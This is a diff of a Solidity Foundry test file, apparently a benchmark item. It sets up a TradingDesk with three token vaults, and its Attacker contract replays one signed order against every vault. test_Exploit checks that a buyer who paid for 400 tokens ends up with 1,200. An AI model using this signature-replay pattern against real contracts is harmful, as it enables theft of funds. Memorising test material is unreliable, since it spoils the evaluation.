@@ -1,7 +1,8 @@
 // SPDX-License-Identifier: MIT
 pragma solidity 0.8.30;
 
-import "./ColdStores.sol";
+import "./TradingDesk.sol";
+import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
 
 // assay-canary-48d74dec-1912-4d38-9934-453e8ff62386
 
@@ -9,67 +10,34 @@ interface Vm {
     function warp(uint256 time) external;
     function addr(uint256 key) external returns (address);
     function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
-    function expectRevert(bytes4 reason) external;
+    function expectRevert() external;
     function expectRevert(bytes calldata reason) external;
     function prank(address sender) external;
 }
 
-contract Berries is IPallet {
-    address private maker = msg.sender;
-    bool private asleep;
-
-    /// While it sleeps, it says no.
-    function sleep(bool asleep_) external {
-        require(msg.sender == maker, "maker only");
-        asleep = asleep_;
-    }
-
-    address private minter = msg.sender;
-    mapping(address => uint256) public balanceOf;
-    mapping(address => mapping(address => uint256)) public allowance;
-
-    function mint(address to, uint256 amount) external {
-        require(msg.sender == minter, "minter only");
-        balanceOf[to] += amount;
-    }
-
-    function approve(address spender, uint256 amount) external {
-        allowance[msg.sender][spender] = amount;
-    }
-
-    function transfer(address to, uint256 amount) external returns (bool) {
-        if (asleep) return false;
-        balanceOf[msg.sender] -= amount;
-        balanceOf[to] += amount;
-        return true;
-    }
-
-    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
-        if (asleep) return false;
-        allowance[from][msg.sender] -= amount;
-        balanceOf[from] -= amount;
-        balanceOf[to] += amount;
-        return true;
+contract Dollar is ERC20 {
+    constructor() ERC20("Dollar", "USD") {
+        _mint(msg.sender, 2_400);
     }
 }
 
-/// A buyer with one paid order, which it presents at every gate.
+/// A buyer with one paid order, which it presents everywhere.
 contract Attacker {
-    ColdStores internal firm;
-    ColdStore.Order internal order;
-    bytes internal stamp;
+    TradingDesk internal desk;
+    DeskVault.Order internal order;
+    bytes internal signature;
 
-    constructor(ColdStores firm_) {
-        firm = firm_;
+    constructor(TradingDesk desk_) {
+        desk = desk_;
     }
 
-    function receiveOrder(ColdStore.Order memory order_, bytes memory stamp_) external {
-        (order, stamp) = (order_, stamp_);
+    function receiveOrder(DeskVault.Order memory order_, bytes memory signature_) external {
+        (order, signature) = (order_, signature_);
     }
 
     function run() external {
         for (uint256 i = 0; i < 3; ++i) {
-            try firm.depots(i).release(order, stamp) {} catch {}
+            try desk.vaults(i).release(order, signature) {} catch {}
         }
     }
 }
@@ -77,106 +45,99 @@ contract Attacker {
 contract Proof {
     Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
     uint256 internal constant KEY = 0xD15;
+    address internal constant BEN = address(0xBE9);
     bytes32 internal constant ORDER_TYPE =
-        keccak256("Order(address good,address buyer,uint256 pallets,uint256 number,uint256 lastDay)");
+        keccak256("Order(address token,address buyer,uint256 amount,uint256 number,uint256 lastDay)");
 
-    ColdStores internal firm;
-    Berries internal berries;
+    TradingDesk internal desk;
+    Dollar internal dollar;
     Attacker internal buyer;
 
     function setUp() public {
         vm.warp(1_700_000_000);
-        firm = new ColdStores(vm.addr(KEY));
-        berries = new Berries();
-        berries.mint(address(this), 2_400);
-        buyer = new Attacker(firm);
-        string[3] memory towns = ["Aalen", "Brig", "Celle"];
+        desk = new TradingDesk(vm.addr(KEY));
+        dollar = new Dollar();
+        buyer = new Attacker(desk);
+        string[3] memory venues = ["Frankfurt", "London", "Zurich"];
         for (uint256 i = 0; i < 3; ++i) {
-            ColdStore depot = firm.open(towns[i]);
-            berries.approve(address(depot), 800);
-            depot.leave(address(berries), 800);
+            DeskVault vault = desk.openVault(venues[i]);
+            dollar.approve(address(vault), 800);
+            vault.deposit(address(dollar), 800);
         }
-        // the buyer has paid for half of the first depot
-        ColdStore.Order memory paid = _order(address(buyer), 400, 1);
-        buyer.receiveOrder(paid, _stamp(0, paid));
-        // and its haulier has been there
-        firm.depots(0).release(paid, _stamp(0, paid));
+        // the buyer has paid for half of the first vault
+        DeskVault.Order memory paid = _order(address(buyer), 400, 1);
+        buyer.receiveOrder(paid, _sign(0, paid));
+        // and has been there
+        desk.vaults(0).release(paid, _sign(0, paid));
     }
 
-    function _order(address to, uint256 pallets, uint256 number) private view returns (ColdStore.Order memory) {
-        return ColdStore.Order(address(berries), to, pallets, number, block.timestamp / 1 days + 5);
+    function _order(address to, uint256 amount, uint256 number) private view returns (DeskVault.Order memory) {
+        return DeskVault.Order(address(dollar), to, amount, number, block.timestamp / 1 days + 5);
     }
 
-    /// What the dispatcher signs for a depot.
-    function _stamp(uint256 depot, ColdStore.Order memory order) private returns (bytes memory) {
+    /// What the desk signs for a vault.
+    function _sign(uint256 vault, DeskVault.Order memory order) private returns (bytes memory) {
         bytes32 content = keccak256(abi.encode(ORDER_TYPE, order));
-        bytes32 digest = keccak256(abi.encodePacked(hex"1901", firm.depots(depot).domain(), content));
+        bytes32 digest = keccak256(abi.encodePacked(hex"1901", desk.vaults(vault).domain(), content));
         (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, digest);
         return abi.encodePacked(r, s, v);
     }
 
     function test_Regular() public {
-        ColdStore depot = firm.depots(1);
-        ColdStore.Order memory order = _order(address(0xB0B), 100, 2);
-        bytes memory stamp = _stamp(1, order);
-        depot.release(order, stamp);
-        require(berries.balanceOf(address(0xB0B)) == 100 && depot.sold(address(berries)) == 100, "released");
-        require(!_release(depot, order, stamp), "twice");
+        DeskVault vault = desk.vaults(1);
+        DeskVault.Order memory order = _order(BEN, 100, 2);
+        bytes memory signature = _sign(1, order);
+        vault.release(order, signature);
+        require(dollar.balanceOf(BEN) == 100 && vault.sold(address(dollar)) == 100, "released");
+        require(!_release(vault, order, signature), "twice");
         order.number = 3;
-        require(!_release(depot, order, stamp), "another number");
-        stamp = _stamp(1, order);
+        require(!_release(vault, order, signature), "another number");
+        signature = _sign(1, order);
         vm.warp(block.timestamp + 7 days);
-        require(!_release(depot, order, stamp), "too late");
-        depot.fetch(address(berries), 700);
-        require(berries.balanceOf(address(this)) == 700, "fetched");
-        (bool ok,) = address(depot).call(abi.encodeCall(depot.fetch, (address(berries), 101)));
-        require(!ok, "more than was left");
+        require(!_release(vault, order, signature), "too late");
+        vault.withdraw(address(dollar), 700);
+        require(dollar.balanceOf(address(this)) == 700, "withdrawn");
+        (bool ok, ) = address(vault).call(abi.encodeCall(vault.withdraw, (address(dollar), 101)));
+        require(!ok, "more than was supplied");
 
-        firm.setDispatcher(address(0xD2));
-        require(firm.dispatcher() == address(0xD2), "another dispatcher");
+        desk.setOrderSigner(address(0xD2));
+        require(desk.orderSigner() == address(0xD2), "another signer");
+        desk.transferOwnership(BEN);
+        vm.prank(BEN);
+        desk.renounceOwnership();
     }
 
-    function _release(ColdStore depot, ColdStore.Order memory order, bytes memory stamp) private returns (bool ok) {
-        (ok,) = address(depot).call(abi.encodeCall(depot.release, (order, stamp)));
+    function _release(DeskVault vault, DeskVault.Order memory order, bytes memory signature) private returns (bool ok) {
+        (ok, ) = address(vault).call(abi.encodeCall(vault.release, (order, signature)));
     }
 
-    // What is refused, each from the state after setUp().
-
-    /// The next call is made by who, and reverts for this reason.
-    function refuses(address who, bytes4 why) internal {
-        vm.prank(who);
-        vm.expectRevert(why);
-    }
-
-    /// The board appoints and opens, and appoints somebody.
     function test_RefusesStrangers() public {
-        refuses(address(buyer), ColdStores.BoardOnly.selector);
-        firm.setDispatcher(address(buyer));
-        refuses(address(buyer), ColdStores.BoardOnly.selector);
-        firm.open("Dole");
-        vm.expectRevert(ColdStores.NoDispatcher.selector);
-        firm.setDispatcher(address(0));
+        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN);
+        vm.prank(BEN);
+        vm.expectRevert(why);
+        desk.setOrderSigner(BEN);
+        vm.prank(BEN);
+        vm.expectRevert(why);
+        desk.openVault("Dublin");
+        vm.expectRevert(abi.encodeWithSelector(TradingDesk.SignerMissing.selector, address(this)));
+        desk.setOrderSigner(address(0));
     }
 
-    /// Orders for nobody, stamps of another length, pallets that do not move.
     function test_RefusesOrders() public {
-        ColdStore depot = firm.depots(1);
-        ColdStore.Order memory order = _order(address(0), 1, 5);
-        bytes memory stamp = _stamp(1, order);
-        vm.expectRevert(ColdStore.NothingForNobody.selector);
-        depot.release(order, stamp);
-        order.buyer = address(0xB0B);
-        stamp = _stamp(1, order);
-        vm.expectRevert(abi.encodeWithSelector(Stamp.BadLength.selector, 66));
-        depot.release(order, abi.encodePacked(stamp, uint8(0)));
-        berries.approve(address(depot), 1);
-        berries.sleep(true);
-        vm.expectRevert(ColdStore.Refused.selector);
-        depot.release(order, stamp);
-        vm.expectRevert(ColdStore.Refused.selector);
-        depot.leave(address(berries), 1);
-        vm.expectRevert(ColdStore.Refused.selector);
-        depot.fetch(address(berries), 1);
+        DeskVault vault = desk.vaults(1);
+        DeskVault.Order memory order = _order(address(0), 1, 5);
+        bytes memory signature = _sign(1, order);
+        vm.expectRevert(abi.encodeWithSelector(DeskVault.BuyerMissing.selector, 5));
+        vault.release(order, signature);
+        order.buyer = BEN;
+        signature = _sign(1, order);
+        vm.expectRevert(abi.encodeWithSelector(ECDSA.ECDSAInvalidSignatureLength.selector, 66));
+        vault.release(order, abi.encodePacked(signature, uint8(0)));
+        vm.warp(block.timestamp + 6 days);
+        vm.expectRevert(abi.encodeWithSelector(DeskVault.OrderExpired.selector, order.lastDay));
+        vault.release(order, signature);
+        vm.expectRevert();
+        vault.deposit(address(dollar), 1);
     }
 
     function exploit() public {
@@ -184,20 +145,20 @@ contract Proof {
     }
 
     function test_Exploit() public {
-        uint256 before = berries.balanceOf(address(buyer));
+        uint256 before = dollar.balanceOf(address(buyer));
         exploit();
-        require(before == 400 && berries.balanceOf(address(buyer)) == 1_200, "paid for once, received once");
+        require(before == 400 && dollar.balanceOf(address(buyer)) == 1_200, "paid for once, received once");
     }
 
     function target() public view returns (address) {
-        return address(firm.depots(1));
+        return address(desk.vaults(1));
     }
 
     function attacker() public view returns (address) {
         return address(buyer);
     }
 
-    function good() public view returns (address) {
-        return address(berries);
+    function token() public view returns (address) {
+        return address(dollar);
     }
 }
